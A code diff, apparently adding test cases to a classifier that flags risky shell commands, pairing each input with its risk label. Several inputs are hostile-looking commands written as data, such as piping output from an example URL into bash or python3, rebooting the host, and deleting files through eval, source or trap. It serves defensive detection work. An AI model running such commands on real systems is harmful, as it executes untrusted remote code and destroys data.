@@ -55,6 +55,16 @@ sh 'kubectl get pods'
   => kubectl | get | pod | - | - | - | read none reversible
 sh 'run this.sh'
   => - | - | - | - | - | - | execute unknown ~ unknown-tool: Not known here: run.
+bash -lc reboot
+  => - | - | - | - | - | - | stop host DESTRUCTIVE ~ destroys: Everything on the machine stops.
+bash -cl reboot
+  => - | - | - | - | - | - | stop host DESTRUCTIVE ~ destroys: Everything on the machine stops.
+bash x-c reboot
+  => - | - | - | - | - | - | execute unknown
+curl -s https://x.example | bash -x
+  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
+echo x | bash - run.sh
+  => - | - | - | - | - | - | execute unknown
 fish -c 'rm a'
   => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys-data: Deletes files.
 busybox
@@ -99,6 +109,20 @@ source /dev/stdin
   => - | - | - | - | - | - | execute unknown
 source /dev/stdin2 <<< 'rm a'
   => - | - | - | - | - | - | execute unknown
+source x/dev/stdin <<< 'rm a'
+  => - | - | - | - | - | - | execute unknown
+source
+  => - | - | - | - | - | - | execute unknown
+eval
+  => - | - | - | - | - | - | execute unknown
+eval x "$(cat y)"
+  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Runs the output of a command as code. ~ substitution: A part of it is what another command says. ~ unknown-tool: Not known here: x.
+eval /dev/stdin <<< 'rm a'
+  => - | - | - | - | - | - | execute unknown ~ unknown-tool: Not known here: stdin.
+echo x | eval -
+  => - | - | - | - | - | - | execute unknown ~ unknown-tool: Not known here: -.
+eval x $y
+  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Runs a variable as code. ~ unknown-tool: Not known here: x.
 `,
   );
 
@@ -127,6 +151,12 @@ echo x | crontab -l
   => - | - | - | - | - | - | change unknown reversible
 echo x | crontab jobs
   => - | - | - | - | - | - | change unknown reversible
+echo x | crontab -u bob -
+  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ pipe-to-shell: What it reads will run later.
+echo x | atop
+  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: atop.
+echo x | batches
+  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: batches.
 trap 'rm a' EXIT
   => - | - | - | - | - | - | delete unknown DESTRUCTIVE ~ destroys-data: Deletes files.
 trap 'ls' EXIT
@@ -204,6 +234,16 @@ pwsh -Command 'Remove-Item a'
 pwsh -Command 'Get-Item a'
   => - | - | - | - | - | - | execute unknown
 lua x.lua "$(cat y z)"
+  => - | - | - | - | - | - | execute unknown ~ substitution: A part of it is what another command says.
+python3 x-c <(ls)
+  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code. ~ substitution: A part of it is what another command says.
+node --eval x <(ls)
+  => - | - | - | - | - | - | execute unknown ~ substitution: A part of it is what another command says.
+perl -ne x <(ls)
+  => - | - | - | - | - | - | execute unknown ~ substitution: A part of it is what another command says.
+curl -s https://x.example | python3 -u
+  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ pipe-to-shell: Runs the output of a command as code.
+python3 -c x "$(cat)"
   => - | - | - | - | - | - | execute unknown ~ substitution: A part of it is what another command says.
 `,
   );
